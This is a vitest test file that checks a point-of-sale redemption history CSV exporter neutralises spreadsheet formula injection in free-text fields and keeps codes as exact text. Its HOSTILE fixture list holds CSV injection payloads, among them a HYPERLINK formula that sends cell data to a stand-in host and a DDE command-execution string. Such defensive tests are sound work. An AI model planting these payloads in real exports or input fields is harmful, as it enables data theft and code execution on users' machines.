/**
 * The till's history CSV goes through the one CSV writer (backend-sync/domain/csv.ts): a LINE
 * display name, coupon, branch, device or staff name that looks like a formula stays text in
 * Excel, and codes keep every character.
 */
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { RedemptionView } from '../consoleApi/contract';
import { redemptionsCsv } from './csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+886 912 345 678',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =cmd|"/C calc"!A0',
  '＝HYPERLINK("http://evil.example")',
];

const view = (name: string, i: number): RedemptionView => ({
  id: `r${i}`,
  claimId: `c${i}`,
  code: i === 0 ? '=1+1' : '2000000000015',
  couponName: name,
  customerName: name,
  redeemedAt: '2026-03-01T02:00:00.000Z',
  branchName: name,
  deviceName: name,
  staffName: name,
  ownDevice: true,
  syncState: 'queued',
  conflict: null,
});

describe('till history CSV', () => {
  it('defuses every hostile name and keeps codes as exact text', () => {
    const csv = redemptionsCsv(HOSTILE.map(view), 'en', 'Asia/Taipei');
    expect(csv.startsWith('\ufeff')).toBe(true);
    const rows = parse<string[]>(csv.slice(1), { newline: '\r\n' }).data.filter((r) => r.length > 1);
    expect(rows[0]).toEqual([
      'Redeemed at',
      'Code',
      'Coupon',
      'Customer',
      'Branch',
      'Device',
      'Staff',
      'Sync state',
      'Conflict resolution',
    ]);
    HOSTILE.forEach((name, i) => {
      const [at, code, ...names] = rows[i + 1]!;
      expect(at).toBe('2026-03-01 10:00:00');
      expect(code).toBe(i === 0 ? '="=1+1"' : '="2000000000015"');
      // Every free-text cell: the name exactly, behind an apostrophe a spreadsheet shows as text.
      for (const cell of names.slice(0, 5)) expect(cell).toBe(`'${name}`);
    });
  });
});
